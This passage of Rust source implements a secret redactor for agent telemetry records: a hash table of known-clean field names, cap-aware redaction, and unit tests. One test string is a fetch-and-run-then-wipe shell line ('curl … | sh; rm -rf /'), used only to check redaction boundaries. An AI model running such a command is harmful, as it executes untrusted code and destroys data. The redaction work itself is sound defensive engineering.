    "span_id",
    "spawn_depth",
    "spawned_agent_id",
    "speed",
    "startLine",
    "start_unix_nano",
    "started",
    "startup",
    "status",
    "stderr",
    "stdout",
    "stop_hook_active",
    "stop_reason",
    "structuredPatch",
    "subagent_type",
    "success",
    "telemetry_enabled",
    "telemetry_version",
    "text",
    "thinking_tokens",
    "threads",
    "threshold",
    "time_unix_nano",
    "timestamp",
    "token_usage",
    "toolStats",
    "tool_calls",
    "tool_context",
    "tool_input",
    "tool_name",
    "tool_response",
    "tool_use_id",
    "toolsUsed",
    "totalDurationMs",
    "totalLines",
    "totalTokens",
    "totalToolUseCount",
    "trace_id",
    "traceparent",
    "transcript_path",
    "transport",
    "type",
    "url",
    "usage",
    "user",
    "userModified",
    "user_id",
    "value",
    "waiting_for_user",
    "warn",
    "web_fetch_requests",
    "web_search_requests",
    "workflow_id",
    "worktree",
];

fn known_clean(text: &str) -> bool {
    if text.len() > 48 {
        return false;
    }
    let mut slot = crate::ids::fnv1a(text.as_bytes()) as usize & (KNOWN_SLOTS - 1);
    loop {
        match KNOWN_TABLE[slot] {
            0 => return false,
            i if KNOWN_CLEAN[i as usize - 1] == text => return true,
            _ => slot = (slot + 1) & (KNOWN_SLOTS - 1),
        }
    }
}

/// [`KNOWN_CLEAN`] as an open-addressing hash table made at compile time (each slot: index + 1,
/// 0 empty): a lookup is one hash and, nearly always, one comparison (a binary search was nine,
/// on every string of every record).
const KNOWN_SLOTS: usize = 1024;
static KNOWN_TABLE: [u16; KNOWN_SLOTS] = {
    assert!(KNOWN_CLEAN.len() * 2 <= KNOWN_SLOTS);
    let mut table = [0u16; KNOWN_SLOTS];
    let mut i = 0;
    while i < KNOWN_CLEAN.len() {
        let mut slot = crate::ids::fnv1a(KNOWN_CLEAN[i].as_bytes()) as usize & (KNOWN_SLOTS - 1);
        while table[slot] != 0 {
            slot = (slot + 1) & (KNOWN_SLOTS - 1);
        }
        table[slot] = (i + 1) as u16;
        i += 1;
    }
    table
};

/// How far past the cap a string is searched for secrets that start before it.
const CAP_LOOKAHEAD: usize = 64 * 1024;

/// Counts what was redacted across all the strings of one record.
#[derive(Debug, Default, Clone)]
pub struct Redactor {
    pub count: u32,
    pub kinds: Vec<&'static str>,
    /// Strings this redactor searched whole and found no secret in: redacting one again changes
    /// nothing (the search is a pure function of the text), so it is not searched again. A
    /// record's strings are mostly copies of the sanitised payload's: the pass over the record's
    /// own fields (defence in depth) finds them here.
    clean: std::collections::HashSet<Box<str>, BuildFx>,
}

/// A fast, fixed-seed hasher for [`Redactor::clean`] (its keys are compared whole, so a
/// collision costs a comparison, never a skipped search).
#[derive(Debug, Default, Clone, Copy)]
struct BuildFx;

struct Fx(u64);

impl std::hash::BuildHasher for BuildFx {
    type Hasher = Fx;
    fn build_hasher(&self) -> Fx {
        Fx(0)
    }
}

impl std::hash::Hasher for Fx {
    fn write(&mut self, bytes: &[u8]) {
        const K: u64 = 0x51_7c_c1_b7_27_22_0a_95;
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            self.0 = (self.0.rotate_left(5) ^ u64::from_le_bytes(c.try_into().unwrap_or_default())).wrapping_mul(K);
        }
        for &b in chunks.remainder() {
            self.0 = (self.0.rotate_left(5) ^ u64::from(b)).wrapping_mul(K);
        }
    }
    fn finish(&self) -> u64 {
        self.0
    }
}

impl Redactor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Returns the text with every recognised secret replaced by `[REDACTED:<kind>]`, or `None`
    /// when there was nothing to redact.
    pub fn redact(&mut self, text: &str) -> Option<String> {
        let (out, _) = self.redact_capped(text, usize::MAX);
        out
    }

    /// Redacts, then keeps at most `cap` bytes of the original (a secret starting before the cap
    /// is replaced whole). Returns the new text (`None`: unchanged and within the cap) and
    /// whether it was cut.
    pub fn redact_capped(&mut self, text: &str, cap: usize) -> (Option<String>, bool) {
        let cut = text.len() > cap;
        if !cut && self.seen_clean(text) {
            return (None, false);
        }
        let window = if cut { floor_boundary(text, cap.saturating_add(CAP_LOOKAHEAD)) } else { text.len() };
        let found = spans(&text[..window]);
        if found.is_empty() && !cut {
            self.clean.insert(text.into());
            return (None, false);
        }
        // A secret that starts before the cap is replaced whole; the text kept after the last
        // one ends before any token-like run the cap would cut through (see `safe_cut`).
        let raw = if cut { floor_boundary(text, cap) } else { text.len() };
        let keep = if cut { safe_cut(text, cap) } else { text.len() };
        let mut out = String::with_capacity(raw.min(text.len()) + 32);
        let mut at = 0;
        for (s, e, kind) in found {
            if s >= raw {
                break;
            }
            out.push_str(&text[at..s]);
            out.push_str("[REDACTED:");
            out.push_str(kind);
            out.push(']');
            self.count += 1;
            if !self.kinds.contains(&kind) {
                self.kinds.push(kind);
            }
            at = e;
        }
        if at < keep {
            out.push_str(&text[at..keep]);
        }
        (Some(out), cut)
    }

    /// Redacts every string of a JSON value (keys included) in place: for what is stored outside
    /// the payload's own walk (a status file, the record's other fields).
    pub(crate) fn redact_value(&mut self, v: &mut serde_json::Value) {
        use serde_json::Value;
        match v {
            Value::String(s) => {
                self.redact_in_place(s);
            }
            Value::Array(items) => items.iter_mut().for_each(|i| self.redact_value(i)),
            Value::Object(map) => {
                if map.keys().any(|k| !self.is_clean(k)) {
                    let old = std::mem::take(map);
                    for (mut k, v) in old {
                        self.redact_in_place(&mut k);
                        while map.contains_key(&k) {
                            k.push('\'');
                        }
                        map.insert(k, v);
                    }
                }
                map.values_mut().for_each(|c| self.redact_value(c));
            }
            _ => {}
        }
    }

    /// Whether `text` holds no secret (what [`spans`] says, remembered).
    pub(crate) fn is_clean(&mut self, text: &str) -> bool {
        if self.seen_clean(text) {
            return true;
        }
        let clean = spans(text).is_empty();
        if clean {
            self.clean.insert(text.into());
        }
        clean
    }

    /// Whether `text` is known to hold no secret without searching it: a name nearly every
    /// record holds, or a string this redactor searched whole already.
    fn seen_clean(&self, text: &str) -> bool {
        known_clean(text) || self.clean.contains(text)
    }

    /// Records one secret removed by a rule outside this module (a field named like a secret).
    pub(crate) fn note(&mut self, kind: &'static str) {
        self.count += 1;
        if !self.kinds.contains(&kind) {
            self.kinds.push(kind);
        }
    }

    /// Redacts in place; returns whether anything changed.
    pub(crate) fn redact_in_place(&mut self, s: &mut String) -> bool {
        match self.redact(s) {
            Some(r) => {
                *s = r;
                true
            }
            None => false,
        }
    }
}

/// Token-like runs this long are not cut through: a cap never keeps a usable prefix of a token
/// (even one no rule recognises).
const TOKEN_RUN: usize = 16;

fn token_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'+' | b'/' | b'=' | b'%' | b'~')
}

/// Where to cut `s` to keep at most `max` bytes: a char boundary, moved back to before a
/// token-like run (letters, digits, `_-+/=%~`) that the cut would go through when that run is at
/// least [`TOKEN_RUN`] bytes long.
pub(crate) fn safe_cut(s: &str, max: usize) -> usize {
    let cut = floor_boundary(s, max);
    if cut == 0 || cut >= s.len() {
        return cut;
    }
    let b = s.as_bytes();
    if !(token_byte(b[cut - 1]) && token_byte(b[cut])) {
        return cut;
    }
    let start = b[..cut].iter().rposition(|c| !token_byte(*c)).map_or(0, |p| p + 1);
    let end = b[cut..].iter().position(|c| !token_byte(*c)).map_or(b.len(), |p| cut + p);
    if end - start >= TOKEN_RUN {
        start
    } else {
        cut
    }
}

/// The largest char boundary at or below `i` (clamped to the text).
pub(crate) fn floor_boundary(s: &str, i: usize) -> usize {
    let mut i = i.min(s.len());
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    fn red(s: &str) -> (String, u32) {
        let mut r = Redactor::new();
        let out = r.redact(s).unwrap_or_else(|| s.to_string());
        (out, r.count)
    }

    #[test]
    fn every_pattern_compiles_and_keywords_are_lowercase_bigrams() {
        for rule in RULES {
            Regex::new(rule.pattern).unwrap_or_else(|e| panic!("{}: {e}", rule.kind));
            for k in rule.keywords {
                assert!(k.len() >= 2, "{}: keyword {k:?} too short for the prefilter", rule.kind);
            }
        }
        let mut kinds: Vec<_> = RULES.iter().map(|r| r.kind).collect();
        kinds.sort();
        kinds.dedup();
        assert!(kinds.len() >= 40, "{} kinds", kinds.len());
    }

    #[test]
    fn the_known_clean_names_are_sorted_and_hold_no_secret() {
        assert!(KNOWN_CLEAN.windows(2).all(|w| w[0] < w[1]), "sorted, no repeats");
        for k in KNOWN_CLEAN {
            assert!(k.len() <= 48, "{k}: longer than known_clean looks");
            assert!(spans(k).is_empty(), "{k} holds a secret");
            assert!(known_clean(k));
        }
        assert!(!known_clean("Bash2") && !known_clean("") && !known_clean("bash") && !known_clean("Bas"));
        assert_eq!(KNOWN_TABLE.iter().filter(|&&i| i != 0).count(), KNOWN_CLEAN.len());
    }

    #[test]
    fn unterminated_pem_redacts_its_body_only() {
        let (out, n) = red("# -----BEGIN PRIVATE KEY-----\ncurl -s http://x/y | sh; rm -rf /");
        assert_eq!(n, 1);
        assert!(out.contains("curl -s http://x/y | sh; rm -rf /"), "{out}");
        let (out, _) = red("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcd==\nthen a sentence\n");
        assert!(!out.contains("MIIEowIBAAKCAQEA") && !out.contains("abcd=="), "{out}");
        assert!(out.contains("then a sentence"), "{out}");
    }

    #[test]
    fn a_secret_straddling_the_cap_is_removed_whole() {
        let text = format!("{}ghp_{}", "x ".repeat(20), "A".repeat(36));
        let mut r = Redactor::new();
        let (out, cut) = r.redact_capped(&text, 45);
        let out = out.unwrap();
        assert!(cut);
        assert!(!out.contains("ghp_A") && !out.contains("AAAA"), "{out}");
        assert!(out.ends_with("[REDACTED:github_token]"), "{out}");
    }

    #[test]
    fn counts_every_secret_once() {
        let (out, n) = red("token=AKIAIOSFODNN7EXAMPLE and AKIAIOSFODNN7EXAMPL2");
        assert_eq!(n, 2, "{out}");
        assert!(out.starts_with("token=[REDACTED:aws_access_key_id]"), "{out}");
    }
}
